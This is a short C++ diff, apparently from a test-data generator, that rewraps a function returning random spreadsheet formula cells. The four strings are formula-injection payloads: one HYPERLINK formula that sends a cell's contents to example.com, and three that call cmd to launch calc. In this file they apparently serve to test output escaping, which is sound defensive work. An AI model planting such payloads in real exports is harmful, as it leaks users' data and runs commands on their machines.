@@ -129,7 +129,8 @@ std::string WrittenCountry(std::string_view country, SampleRandom* random) {
 std::string FormulaCell(SampleRandom* random) {
   static constexpr std::array<std::string_view, 4> kCells = {
       "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")",
-      "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0"};
+      "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
+      "-2+3+cmd|'/C calc'!A0"};
   return std::string(kCells[random->Below(4)]);
 }
 
